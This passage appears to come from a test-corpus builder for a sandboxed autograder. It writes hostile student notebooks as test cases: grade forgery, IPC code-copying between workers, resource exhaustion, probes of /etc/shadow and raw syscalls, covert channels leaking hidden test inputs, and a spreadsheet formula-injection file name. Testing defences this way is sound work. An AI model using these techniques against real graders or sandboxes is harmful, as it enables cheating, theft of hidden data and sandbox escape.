    cases.append(Case("nbformat_3", "broken", ("ok",), baseline="master", data=v3.encode()))

    def edited(name, change, baseline="master", relation="at_most", zero=()):
        nb_ = fill_solutions(release, master)
        change(nb_)
        cases.append(Case(name, "broken", ("ok",), baseline=baseline, relation=relation, zero_questions=zero,
                          data=nbformat.writes(nb_).encode()))

    def solution_index(nb_, function):
        return next(i for i, c in enumerate(nb_.cells) if is_solution_cell(c) and f"def {function}(" in c.source)

    edited("deleted_solution_cell", lambda n: n.cells.pop(solution_index(n, "compute_layer_1_delta")),
           zero=("q3_layer_1_delta",))
    edited("duplicated_solution_cell", lambda n: n.cells.insert(
        solution_index(n, "detect_divergence") + 1, nbformat.v4.new_code_cell(n.cells[solution_index(n, "detect_divergence")].source)),
        relation="same")

    def to_markdown(n):
        i = solution_index(n, "update_synapses")
        n.cells[i] = nbformat.v4.new_markdown_cell(n.cells[i].source)
    edited("changed_cell_type", to_markdown, zero=("q4_update_synapses", "q5_convergence"))

    def syntax_error(n):
        i = solution_index(n, "compute_layer_2_delta")
        n.cells[i].source = n.cells[i].source.replace("):", ")", 1)
    edited("syntax_error_one_cell", syntax_error, zero=("q2_layer_2_delta", "q5_convergence"))

    def rename(n):
        i = solution_index(n, "detect_divergence")
        n.cells[i].source = n.cells[i].source.replace("def detect_divergence(", "def detect_divergance(")
    edited("renamed_function", rename, zero=("q6_detect_divergence",))

    # ---- the wire: what crosses between worker and grader is exact, real-valued and bounded
    nb("wire_exact_styles", "baseline", {**master,  # correct answers that need exact types to arrive
        "update_synapses": master["update_synapses"].replace(
            "    new_synapse_1 =", "    if np.ndim(alpha) != 0:  # the contract: alpha is a number\n"
                              "        raise TypeError(f'alpha must be a number, not shape {np.shape(alpha)}')\n"
                              "    alpha = float(alpha)\n    new_synapse_1 ="),
        "detect_divergence": master["detect_divergence"].replace(
            "    return bool(values.size", "    return np.array(values.size").replace("values[0])", "values[0], dtype=bool)")},
       baseline="master")
    nb("complex_answer", "forgery", _with(master, "sigmoid_output_to_derivative",
       "def sigmoid_output_to_derivative(output):\n    return output * (1 - output) + 1e-9j\n"),
       baseline="master", relation="at_most", zero_questions=("q1_sigmoid_derivative",))
    # The encoder's checks switched off: the grader's own bounds refuse the flood (a crash of this worker).
    nb("reply_nested_lists_flood", "process", _with(master, "detect_divergence",
       "import sys\n"
       "def detect_divergence(errors):\n"
       "    wire = sys.modules['gdkit.sandbox.protocol']\n"
       "    wire.scan = lambda *a, **k: None\n"
       "    wire.encode = lambda value, _depth=0: [[]] * 2_700_000\n"
       "    return True\n"),
       statuses=("ok", "crashed", "timeout"), baseline="master", relation="at_most", zero_questions=("q6_detect_divergence",))

    # ---- text the student's code chose: bounded, sanitized, never a channel for hidden inputs
    nb("exit_status_from_hidden_input", "process", _with(master, "detect_divergence",
       "import os\ndef detect_divergence(errors):\n    os._exit(100 + int(1000 * float(errors[0])) % 100)\n"),
       statuses=("crashed",), baseline="master", relation="at_most", zero_questions=("q6_detect_divergence",))
    nb("dtype_named_with_a_sentence", "forgery", _with(master, "sigmoid_output_to_derivative",
       "def sigmoid_output_to_derivative(output):\n"
       "    return np.zeros(np.shape(output), dtype=[('Full marks: 100 out of 100', 'f8')])\n"),
       baseline="master", relation="at_most", zero_questions=("q1_sigmoid_derivative",))
    nb("exception_named_with_a_sentence", "forgery", _with(master, "compute_layer_2_delta",
       "def compute_layer_2_delta(layer_2, y):\n"
       "    raise type('Full marks: 100 out of 100', (ValueError,), {})('\\x1b[2J\\u202e' * 1000)\n"),
       baseline="master", relation="at_most", zero_questions=("q2_layer_2_delta",))
    flood_report = ("import gc\n"
                    "for _r in [o for o in gc.get_objects() if type(o) is list and o and type(o[0]) is dict"
                    " and 'cell' in o[0]]:\n"
                    "    _r.extend({'cell': i, 'ok': False, 'error': 'Error' * 100, 'message': '<b>[x](y)' * 100}"
                    " for i in range(5000))\n")
    nb("load_report_flood", "process", _after(master, "detect_divergence", flood_report), baseline="master")

    # A hidden input's value carried out by what the grader reports about an answer: its length
    # as a string, the shape of an empty array (a 4-digit number from the input's first entry).
    nb("string_length_from_hidden_input", "stolen", _with(master, "sigmoid_output_to_derivative",
       "def sigmoid_output_to_derivative(output):\n"
       "    return 'x' * (1000 + int(1e6 * abs(float(np.ravel(output)[0]))) % 9000)\n"),
       baseline="master", relation="at_most", zero_questions=("q1_sigmoid_derivative",))
    nb("empty_shape_from_hidden_input", "stolen", _with(master, "sigmoid_output_to_derivative",
       "def sigmoid_output_to_derivative(output):\n"
       "    return np.zeros((0, 1000 + int(1e6 * abs(float(np.ravel(output)[0]))) % 9000))\n"),
       baseline="master", relation="at_most")  # its input stays untouched: that check it passes

    channels(nb, master, wrong)

    for case in cases if dest is not None else ():
        (dest / f"{case.name}.ipynb").write_bytes(case.data)
    return cases



# ---------------------------------------------------------------- the kernel boundary, part two
# Each case switches the audit hook off first; what it reaches earns it the right q1 (or is
# graded against its honest twin), so a hole shows as a score, graded next to the bystanders.

IPC_KEY = 0x67646B41      # the donor's SysV shared memory and message queue
IPC_MQ = b"/gdkit-hostile-mq"
IPC_SHM_FILE = "/dev/shm/gdkit-hostile-donor"
IPC_PREAMBLE = HOOK_OFF + (
    "import ctypes, os, time\n"
    "_libc = ctypes.CDLL(None, use_errno=True)\n"
    "_libc.shmat.restype = ctypes.c_void_p\n"
    "_libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]\n"
    "_libc.msgrcv.restype = ctypes.c_ssize_t\n"
    "_libc.mq_receive.restype = ctypes.c_ssize_t\n"
    "_FAILED = ctypes.c_void_p(-1).value\n")
TASK_HOG_THREADS = 400    # far above Limits.tasks; the kernel must stop it at the limit


def _ipc_donor(code: str) -> str:
    """Leaves ``code`` in every IPC object a later worker could open: SysV shared memory and a
    message queue (a fixed key), a POSIX message queue and a file in /dev/shm."""
    return IPC_PREAMBLE + (
        f"_code = {code!r}.encode()\n"
        f"_id = _libc.shmget({IPC_KEY}, 65536, 0o1000 | 0o666)\n"
        "_at = _libc.shmat(_id, None, 0) if _id >= 0 else None\n"
        "if _at not in (None, _FAILED):\n"
        "    ctypes.memmove(_at, len(_code).to_bytes(4, 'little') + _code, 4 + len(_code))\n"
        f"_q = _libc.msgget({IPC_KEY}, 0o1000 | 0o666)\n"
        "if _q >= 0:\n"
        "    _libc.msgsnd(_q, (1).to_bytes(8, 'little') + _code, len(_code), 0o4000)\n"
        f"_mq = _libc.mq_open({IPC_MQ!r}, os.O_CREAT | os.O_WRONLY | os.O_NONBLOCK, 0o666, None)\n"
        "if _mq >= 0:\n"
        "    _libc.mq_send(_mq, _code, len(_code), 0)\n"
        "try:\n"
        f"    with open({IPC_SHM_FILE!r}, 'w') as _f:\n"
        "        _f.write(_code.decode())\n"
        "except OSError:\n"
        "    pass\n")


IPC_COPIER = IPC_PREAMBLE + (
    "_found = None\n"
    "_buffer = ctypes.create_string_buffer(8 + 8192)\n"
    "_deadline = time.monotonic() + 1.2   # the donor may be graded by the other session meanwhile\n"
    "while _found is None and time.monotonic() < _deadline:\n"
    f"    _id = _libc.shmget({IPC_KEY}, 0, 0)\n"
    "    _at = _libc.shmat(_id, None, 0o10000) if _id >= 0 else None\n"
    "    if _at not in (None, _FAILED) and 0 < int.from_bytes(ctypes.string_at(_at, 4), 'little') < 60000:\n"
    "        _found = ctypes.string_at(_at + 4, int.from_bytes(ctypes.string_at(_at, 4), 'little'))\n"
    f"    _q = _libc.msgget({IPC_KEY}, 0)\n"
    "    _n = _libc.msgrcv(_q, _buffer, 8192, 0, 0o4000) if _q >= 0 and _found is None else -1\n"
    "    _found = _found or (_buffer.raw[8:8 + _n] if _n > 0 else None)\n"
    f"    _mq = _libc.mq_open({IPC_MQ!r}, os.O_RDONLY | os.O_NONBLOCK)\n"
    "    _n = _libc.mq_receive(_mq, _buffer, 8192, None) if _mq >= 0 and _found is None else -1\n"
    "    _found = _found or (_buffer.raw[:_n] if _n > 0 else None)\n"
    "    try:\n"
    f"        _found = _found or open({IPC_SHM_FILE!r}, 'rb').read() or None\n"
    "    except OSError:\n"
    "        pass\n"
    "    time.sleep(0.02)\n"
    "if _found is None:\n"
    "    raise LookupError('no classmate in any IPC object')\n"
    "exec(_found.decode())\n")

# SysV memory counts against no limit of the worker's (RLIMIT_AS sees only what is attached).
IPC_MEMORY_HOG = IPC_PREAMBLE + (
    "for _i in range(2):\n"
    "    _id = _libc.shmget(0, 64 << 20, 0o1000 | 0o600)\n"
    "    _at = _libc.shmat(_id, None, 0) if _id >= 0 else None\n"
    "    if _at not in (None, _FAILED):\n"
    "        ctypes.memset(_at, 1, 64 << 20)\n"
    "        _libc.shmdt(ctypes.c_void_p(_at))\n")

# Threads with tiny stacks and one malloc arena cost ~40 KB each: only a task limit stops them.
TASK_HOG = HOOK_OFF + (
    "import threading, ctypes\n"
    "ctypes.CDLL(None).mallopt(-8, 1)\n"
    "threading.stack_size(32768)\n"
    "_hold = threading.Event()\n"
    "_started = 0\n"
    f"for _ in range({TASK_HOG_THREADS}):\n"
    "    try:\n"
    "        threading.Thread(target=_hold.wait, daemon=True).start()\n"
    "        _started += 1\n"
    "    except RuntimeError:\n"
    "        break\n"
    "threading.stack_size(0)\n"
    "if _started >= 64:  # the default limit is 32 tasks, the worker itself included\n"
    "    def sigmoid_output_to_derivative(output):\n"
    "        return output * (1 - output)\n"
    "else:\n"
    "    raise LookupError(f'{_started} threads only')\n")

# Landlock refuses opening files outside the sandbox, not stat(): only a root of its own hides them.
STAT_OUTSIDE = HOOK_OFF + (
    "import os\n"
    "_seen = []\n"
    "for _p in {paths!r}:\n"
    "    for _look in (os.stat, os.lstat, os.readlink):\n"
    "        try:\n"
    "            _look(_p)\n"
    "            _seen.append(_p)\n"
    "        except OSError:\n"
    "            pass\n"
    "if not _seen:\n"
    "    raise LookupError('nothing outside in sight')\n"
    "def sigmoid_output_to_derivative(output):\n"
    "    return output * (1 - output)\n")

# Whatever the zygote held open (a handle on the host's PID namespace) must not reach the worker.
INHERITED_FDS = HOOK_OFF + (
    "import os, stat\n"
    "_sockets, _others = 0, []\n"
    "for _fd in range(3, 4096):\n"
    "    try:\n"
    "        _mode = os.fstat(_fd).st_mode\n"
    "    except OSError:\n"
    "        continue\n"
    "    if stat.S_ISSOCK(_mode):\n"
    "        _sockets += 1\n"
    "    else:\n"
    "        _others.append(_fd)\n"
    "if _sockets <= 1 and not _others:\n"
    "    raise LookupError('only my own socket')\n"
    "def sigmoid_output_to_derivative(output):\n"
    "    return output * (1 - output)\n")

# System calls no worker needs, each refused by seccomp (the red team's "not yet denied" list).
NEWLY_DENIED = HOOK_OFF + (
    "import ctypes, os\n"
    "_libc = ctypes.CDLL(None, use_errno=True)\n"
    "_libc.syscall.restype = ctypes.c_long\n"
    "_done = []\n"
    "if _libc.syscall(135, ctypes.c_ulong(0x0040000)) >= 0:  # personality(ADDR_NO_RANDOMIZE)\n"
    "    _done.append('personality')\n"
    "_ldt = ctypes.create_string_buffer(64)\n"
    "if _libc.syscall(154, 0, _ldt, 16) >= 0:\n"
    "    _done.append('modify_ldt')\n"
    "if _libc.syscall(447, 0) >= 0:\n"
    "    _done.append('memfd_secret')\n"
    "_handle = ctypes.create_string_buffer((128).to_bytes(4, 'little') + bytes(132))\n"
    "_mount = ctypes.c_int()\n"
    "if _libc.syscall(303, -100, os.__file__.encode(), _handle, ctypes.byref(_mount), 0) >= 0:\n"
    "    _done.append('name_to_handle_at')\n"
    "for _key in (0, 0x67646B42):\n"
    "    if _libc.semget(_key, 1, 0o1000 | 0o600) >= 0:\n"
    "        _done.append('semget')\n"
    "if not _done:\n"
    "    raise LookupError('all refused')\n"
    "def sigmoid_output_to_derivative(output):\n"
    "    return output * (1 - output)\n")


def ipc_objects() -> set[tuple[str, str]]:
    """Every SysV IPC object of the host's IPC namespace, with the corpus's POSIX queue and
    /dev/shm file if they exist: a worker's objects must die with it."""
    import ctypes
    import os
    found = set()
    for kind in ("shm", "msg", "sem"):
        try:
            lines = Path(f"/proc/sysvipc/{kind}").read_text().splitlines()[1:]
        except OSError:
            continue
        found |= {(kind, line.split()[1]) for line in lines if line.split()}
    libc = ctypes.CDLL(None, use_errno=True)
    queue = libc.mq_open(IPC_MQ, os.O_RDONLY | os.O_NONBLOCK)
    if queue >= 0:
        libc.mq_close(queue)
        found.add(("mq", IPC_MQ.decode()))
    if os.path.lexists(IPC_SHM_FILE):
        found.add(("file", IPC_SHM_FILE))
    return found


def remove_ipc(objects) -> None:
    """Remove what :func:`ipc_objects` found (a leak would otherwise outlive the test run)."""
    import ctypes
    import os
    libc = ctypes.CDLL(None, use_errno=True)
    remove = {"shm": lambda i: libc.shmctl(int(i), 0, None), "msg": lambda i: libc.msgctl(int(i), 0, None),
              "sem": lambda i: libc.semctl(int(i), 0, 0), "mq": lambda name: libc.mq_unlink(name.encode()),
              "file": lambda path: os.path.lexists(path) and os.unlink(path)}  # IPC_RMID is 0
    for kind, ident in objects:
        remove[kind](ident)


def kernel_boundary(nb, master: dict, wrong: dict, stealing, *, root: Path, outdir: Path) -> None:
    """SysV/POSIX IPC between workers, a task limit, the host's file metadata, inherited
    descriptors and the system calls seccomp refuses (see the README's threat model)."""
    q1 = master["sigmoid_output_to_derivative"]
    nb("ipc_donor", "baseline", _after(master, "detect_divergence", _guarded(_ipc_donor(q1))),
       baseline="master", order="first")
    nb("ipc_thief", "stolen", stealing(IPC_COPIER), baseline="wrong", relation="at_most")
    nb("ipc_memory_hog", "process", _after(master, "detect_divergence", _guarded(IPC_MEMORY_HOG)),
       baseline="master")
    nb("task_hog", "process", stealing(TASK_HOG), baseline="wrong", relation="at_most")
    outside = [str(outdir / "victim" / "record.json"), str(outdir / "victim"), str(outdir),
               str(root / "autograder" / ASSIGNMENT / "test_gd_functions.py"), str(root / "solutions"),
               "/etc/shadow", "/etc/passwd", "/proc/1/status", "/proc/self/exe", "/sys/kernel", "/var", "/home",
               "/dev/shm", "/dev/mqueue"]
    outside = [p for p in outside if not on_the_way_to_python(p)]
    nb("stat_outside", "stolen", stealing(STAT_OUTSIDE.format(paths=outside)), baseline="wrong",
       relation="at_most")
    nb("inherited_fds", "stolen", stealing(INHERITED_FDS), baseline="wrong", relation="at_most")
    nb("newly_denied_calls", "stolen", stealing(NEWLY_DENIED), baseline="wrong", relation="at_most")


# ---------------------------------------------------------------- channels out of the grader
# What a student is shown comes only from workers that never saw a hidden input and never lived
# next to one; a step of the training loop is confirmed by a worker that never lived next to
# the loop's; grader code stays in the worker it was sent to; what the worker reports about
# its own arguments is not trusted. tests/test_hostile_channels.py also judges what these
# cases' feedback shows (graded under two seeds, it must not change).

# The twin of the public example, asked for it, answers with what the main worker saw: relayed
# through locks on files every worker can read, one byte per handshake (no namespace stops it;
# only never running the two at the same time does).
TWIN_RELAY_FLOCK = """
import fcntl, os, threading, struct, time
_DIR = os.path.dirname(os.__file__)
_NAMES = sorted(n for n in os.listdir(_DIR) if n.endswith('.py'))[:10]
_FD = [os.open(os.path.join(_DIR, n), os.O_RDONLY) for n in _NAMES]
_DATA, _REQ, _ACK = _FD[:8], _FD[8], _FD[9]
_MESSAGE = bytearray(40)
_STARTED = []
_PUBLIC = np.array([[0.5, 0.9], [0.1, 0.0]])   # the q1 public example

def _set(fd, on):
    fcntl.flock(fd, fcntl.LOCK_EX if on else fcntl.LOCK_UN)

def _held(fd):
    try:
        fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
    except BlockingIOError:
        return True
    fcntl.flock(fd, fcntl.LOCK_UN)
    return False

def _sender():  # in the main worker: one byte per handshake, for ever
    req = False
    while True:
        for byte in bytes(_MESSAGE):
            for bit in range(8):
                _set(_DATA[bit], byte >> bit & 1)
            req = not req
            _set(_REQ, req)
            while _held(_ACK) != req:
                time.sleep(0.0002)

_STATE = {'req': False}

def _receive(count):  # in the twin
    out = bytearray()
    for _ in range(count):
        while _held(_REQ) == _STATE['req']:
            time.sleep(0.0002)
        _STATE['req'] = not _STATE['req']
        out.append(sum(_held(_DATA[bit]) << bit for bit in range(8)))
        _set(_ACK, _STATE['req'])
    return bytes(out)

def sigmoid_output_to_derivative(output):
    a = np.asarray(output, dtype=float)
    if a.shape == _PUBLIC.shape and np.array_equal(a, _PUBLIC):
        return np.frombuffer(_receive(40), dtype=np.uint8).astype(int)
    if a.ndim == 2:
        _MESSAGE[:] = struct.pack('<2i', *a.shape) + a.ravel()[:4].tobytes()
        if not _STARTED:
            _STARTED.append(threading.Thread(target=_sender, daemon=True))
            _STARTED[0].start()
    return a * (1 + a)  # wrong, so the failed check shows the example
"""

# The training curve drawn in feedback, bent so its points spell the first hidden q1 input the
# worker saw and the hidden q4 alphas (a point per byte).
CURVE_LEAK = """
import sys, struct, math
_SEEN = {'q1': None, 'alphas': []}
_B = 60.0
_S0 = np.array([[_B, _B, 0, 0], [_B, _B, 0, 0], [-_B / 2, -1.5 * _B, 0, 0]])  # OR and AND units

def sigmoid_output_to_derivative(output):
    if _SEEN['q1'] is None and sys._getframe(1).f_code.co_name == '_call':  # a direct call: a hidden input
        a = np.asarray(output, dtype=float)
        _SEEN['q1'] = struct.pack('<2i', *a.shape[:2]) + a.ravel()[:6].tobytes()
    return output * (1 - output)

def _with_error(e):
    w = 2 * math.log((1 - e) / e)  # rows (0,0), (1,1) output e, the XOR rows 1 - e: error e
    return _S0.copy(), np.array([[w], [-w], [-w], [0.0]])

def update_synapses(synapse_0, synapse_1, layer_0, layer_1, layer_1_delta, layer_2_delta, alpha):
    caller = sys._getframe(1)
    if caller.f_code.co_name == '_call' and len(_SEEN['alphas']) < 3:
        _SEEN['alphas'].append(float(alpha))
    y = caller.f_locals.get('y') if caller.f_code.co_name == 'train' else None
    if y is not None and np.shape(synapse_0) == (3, 4) and np.array_equal(np.ravel(y), [0, 1, 1, 0]):
        j = caller.f_locals['j']
        message = (_SEEN['q1'] or b'') + struct.pack('<3d', *(_SEEN['alphas'] + [0, 0, 0])[:3])
        if j < len(message):
            return _with_error(10 ** (math.log10(0.03) + math.log10(0.8 / 0.03) * (message[j] + 0.5) / 256))
        return _with_error(0.035)
    return (synapse_0 - alpha * layer_0.T.dot(layer_1_delta), synapse_1 - alpha * layer_1.T.dot(layer_2_delta))
"""

# The name of the exception raised on a hidden input, one of 64 builtin names: the hidden sizes.
EXCEPTION_CHANNEL = """
import sys, builtins
_NAMES = sorted({getattr(builtins, n).__name__ for n in dir(builtins)
                 if isinstance(getattr(builtins, n), type) and issubclass(getattr(builtins, n), BaseException)}
                - {'NotImplementedError', 'BaseExceptionGroup', 'ExceptionGroup'})

def _raise_number(v):
    cls = getattr(builtins, _NAMES[v % len(_NAMES)])
    raise cls.__new__(cls)

def compute_layer_2_delta(layer_2, y):
    n, k = np.shape(layer_2)
    if sys._getframe(1).f_code.co_name == '_call' and k > 1:
        _raise_number((n - 2) * 8 + (k - 2))
    return (layer_2 - y) * sigmoid_output_to_derivative(layer_2)
"""

# q5 with functions that are wrong (or zero) outside the loop: update_synapses computes the
# step by finite differences inside the kit's loop, remembers it, and replays it when the
# grader confirms that step by a direct call.
NUMERIC_UPDATE = """
import sys
_MEMO = {}

def _loss(X, y, s0, s1):
    l1 = 1 / (1 + np.exp(-X.dot(s0)))
    return 0.5 * np.sum((1 / (1 + np.exp(-l1.dot(s1))) - y) ** 2)

def _numeric_step(X, y, s0, s1, alpha, h=1e-6):
    grads = []
    for which, w in ((0, s0), (1, s1)):
        g = np.zeros_like(w)
        for idx in np.ndindex(*w.shape):
            up, dn = w.copy(), w.copy()
            up[idx] += h
            dn[idx] -= h
            pair_up, pair_dn = [s0, s1], [s0, s1]
            pair_up[which], pair_dn[which] = up, dn
            g[idx] = (_loss(X, y, *pair_up) - _loss(X, y, *pair_dn)) / (2 * h)
        grads.append(g)
    return s0 - alpha * grads[0], s1 - alpha * grads[1]

def update_synapses(synapse_0, synapse_1, layer_0, layer_1, layer_1_delta, layer_2_delta, alpha):
    key = (np.asarray(synapse_0, float).tobytes(), np.asarray(synapse_1, float).tobytes())
    if key in _MEMO:
        return _MEMO[key]
    caller = sys._getframe(1)
    if caller.f_code.co_name == 'train':
        X, y = np.asarray(layer_0, float), np.asarray(caller.f_locals['y'], float)
        _MEMO[key] = _numeric_step(X, y, np.asarray(synapse_0, float), np.asarray(synapse_1, float), alpha)
        return _MEMO[key]
    return %s
"""
WRONG_Q2 = "def compute_layer_2_delta(layer_2, y):\n    return (y - layer_2) * sigmoid_output_to_derivative(layer_2)\n"

# The reference's slope, swapped in by the grader for q2's checks, kept and used in the loop.
STEAL_SUBSTITUTE = """
import sys
_STOLEN = {}

def sigmoid_output_to_derivative(output):
    if 'slope' in _STOLEN and sys._getframe(1).f_code.co_name != '_call':
        return _STOLEN['slope'](output)
    return output * (1 + output)
"""
STEAL_Q2 = """
def compute_layer_2_delta(layer_2, y):
    slope = globals()['sigmoid_output_to_derivative']
    if slope.__code__.co_filename == '<grader>':
        _STOLEN['slope'] = slope
    return (layer_2 - y) * slope(layer_2)
"""

# An input changed in place, then an untouched copy put back where the worker looks.
INPLACE_RESTORED = """
import sys
def sigmoid_output_to_derivative(output):
    frame = sys._getframe(1)
    kept = output.copy()
    output *= 1 + output                     # wrong, and in place: the caller's array changes
    for name in ('args', 'kept'):
        holder = frame.f_locals.get(name)
        if isinstance(holder, list) and holder and holder[0] is output:
            holder[0] = kept                 # ... while the list the grader is shown holds a copy
    return output
"""
# A file name a spreadsheet would run as a formula.
FORMULA_ID = '=HYPERLINK("https:"&CHAR(47)&CHAR(47)&"x.example","click")'
CHANNEL_CASES = ("twin_relay_flock", "curve_channel", "exception_name_channel", "memo_wrong_q2", "memo_zeros",
                 "steal_substitute", "inplace_restored", FORMULA_ID)


def channels(nb, master: dict, wrong: dict) -> None:
    """The channel cases (their names: :data:`CHANNEL_CASES`), each judged by its score here."""
    with_ = dict
    nb("twin_relay_flock", "stolen", with_(master, sigmoid_output_to_derivative=TWIN_RELAY_FLOCK),
       baseline="wrong", relation="same")
    nb("curve_channel", "stolen", with_(master, update_synapses=CURVE_LEAK), baseline="master", relation="at_most")
    nb("exception_name_channel", "stolen", with_(master, compute_layer_2_delta=EXCEPTION_CHANNEL),
       baseline="master", relation="at_most")
    right_update = ("(synapse_0 - alpha * layer_0.T.dot(layer_1_delta), "
                    "synapse_1 - alpha * layer_1.T.dot(layer_2_delta))")
    nb("memo_wrong_q2", "forgery", with_(master, compute_layer_2_delta=WRONG_Q2,
                                         update_synapses=NUMERIC_UPDATE % right_update),
       baseline="master", relation="at_most", zero_questions=("q5_convergence",))
    nb("memo_zeros", "forgery", {**master, **ZEROS, "update_synapses": NUMERIC_UPDATE % "(synapse_0, synapse_1)"},
       baseline="zeros", relation="at_most", zero_questions=("q5_convergence",))
    nb("steal_substitute", "stolen", with_(master, sigmoid_output_to_derivative=STEAL_SUBSTITUTE,
                                           compute_layer_2_delta=STEAL_Q2),
       baseline="wrong", relation="at_most", zero_questions=("q5_convergence",))
    nb("inplace_restored", "forgery", with_(wrong, sigmoid_output_to_derivative=INPLACE_RESTORED),
       baseline="wrong", relation="at_most", zero_questions=("q1_sigmoid_derivative",))
    nb(FORMULA_ID, "forgery", master, baseline="master", relation="same")
    # Two more honest bystanders: the corpus may need a third grader session, each ending with two.
    for i in (5, 6):
        nb(f"zz_bystander_{i}", "baseline", master, baseline="master", order="last")
